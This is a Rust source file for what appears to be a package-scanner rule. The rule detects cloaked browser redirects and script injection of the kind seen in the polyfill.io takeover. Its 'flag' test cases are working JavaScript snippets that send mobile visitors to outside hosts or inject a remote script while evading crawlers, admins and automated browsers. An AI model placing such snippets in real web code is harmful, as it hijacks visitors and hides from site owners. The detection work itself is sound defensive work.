//! Rule `cloaked-redirect`.

use crate::model::Severity;
use crate::package::Package;
use crate::rules::{Emitter, all_text, code_files, is_doc_path};

crate::declare_rule! {
    /// Browser code that sends visitors to a hard-coded outside address (changes
    /// `location`, or injects a script from it) only for a chosen audience and hides from
    /// whoever might notice: it skips crawlers and automated browsers, and adds at least three
    /// more gates among mobile-only, skipping logged-in admins, random sampling, time of day and
    /// a once-only cookie. Mobile redirects and A/B tests use one or two of these, not the
    /// cloaking set together. `critical`.
    id: "cloaked-redirect",
    category: Network,
    severity: Critical,
    capability: Some(crate::model::Capability::Network),
    title: "redirects or injects a script only for visitors who will not notice (cloaking)",
    incident: "polyfill.io CDN takeover (Sansec, Jun 2024): mobile-only redirects that skipped admins and bots, once a day",
    case_file: "index.js",
    flag: ["if (/Android|iPhone/i.test(navigator.userAgent) && !/bot|spider/i.test(navigator.userAgent) && Math.random() < 0.2) { document.cookie = 'v=1; max-age=86400'; setTimeout(() => { window.location.href = 'https://promo.example/r?u=' + location.host }, 900) }",
           "(function () { var ua = navigator.userAgent; if (navigator.webdriver || /crawl|headless/i.test(ua)) return; if (/wp-admin/.test(location.pathname) || /logged_in/.test(document.cookie)) return; var h = new Date().getHours(); if (h > 8 && h < 22 && Math.random() < 0.3) { var s = document.createElement('script'); s.src = 'https://cdn.stats.example/t.js'; document.head.appendChild(s) } })()"],
    pass: ["if (/Android|iPhone/i.test(navigator.userAgent) && !/bot/i.test(navigator.userAgent)) location.replace(opts.mobileUrl)",
           "if (!/bot|crawl/i.test(navigator.userAgent) && Math.random() < sampleRate) sendMetrics()",
           "if (/Mobile/i.test(navigator.userAgent) && !navigator.webdriver && Math.random() < 0.5) location.href = 'https://m.site.example/'"],
}

fn check(pkg: &Package, out: &mut Emitter) {
    let bot = crate::regex!(
        r"(?i)\bbot\||\|bot\b|crawl|spider|headless|lighthouse|navigator\.webdriver|\bwebdriver\b"
    );
    let mobile = crate::regex!(r"(?i)android\||\|android|iphone|ipad|\bmobile\b\|?|\|mobi\b");
    let admin = crate::regex!(
        r"(?i)wp-admin|logged_in|\badmin(_session)?\b[^\n]{0,40}(cookie|pathname)|(cookie|pathname)[^\n]{0,80}\badmin"
    );
    let random = crate::regex!(r"Math\.random\(\)\s*[<>]=?\s*0?\.\d");
    let hour = crate::regex!(r"\.get(UTC)?Hours\(\)");
    let once = crate::regex!(r#"\bcookie\s*=\s*['"`][^'"`\n]{0,80}(max-age|expires)"#);
    let go = crate::regex!(
        r#"(?i)(location\.(href|replace|assign)\b|\blocation\s*=[^=]|\.src\s*=)[^;\n]{0,40}['"`]https?://[a-z0-9.-]+|\b(load|inject|redirect)\w*\s*\(\s*['"`]https?://[a-z0-9.-]+"#
    );
    for f in code_files(pkg) {
        if is_doc_path(&f.path) || f.js.is_none() {
            continue;
        }
        let text = all_text(f);
        if !crate::mentions!(text, ["navigator"]) || !crate::mentions!(text, ["location", ".src"]) {
            continue;
        }
        if !text.contains("userAgent") && !text.contains("webdriver") {
            continue;
        }
        let Some(g) = go.find(text) else { continue };
        if !bot.is_match(text) {
            continue;
        }
        let gates: Vec<&str> = [
            ("mobile only", mobile.is_match(text)),
            ("skips admins", admin.is_match(text)),
            ("random sampling", random.is_match(text)),
            ("time of day", hour.is_match(text)),
            ("once-only cookie", once.is_match(text)),
        ]
        .into_iter()
        .filter(|(_, on)| *on)
        .map(|(n, _)| n)
        .collect();
        if gates.len() < 3 {
            continue;
        }
        let off = f.text_off(g.start(), 0);
        out.hit_sev(
            Severity::Critical,
            pkg,
            f,
            off,
            format!(
                "sends visitors to a hard-coded address only when no crawler or automated browser is looking ({})",
                gates.join(", ")
            ),
        );
    }
}
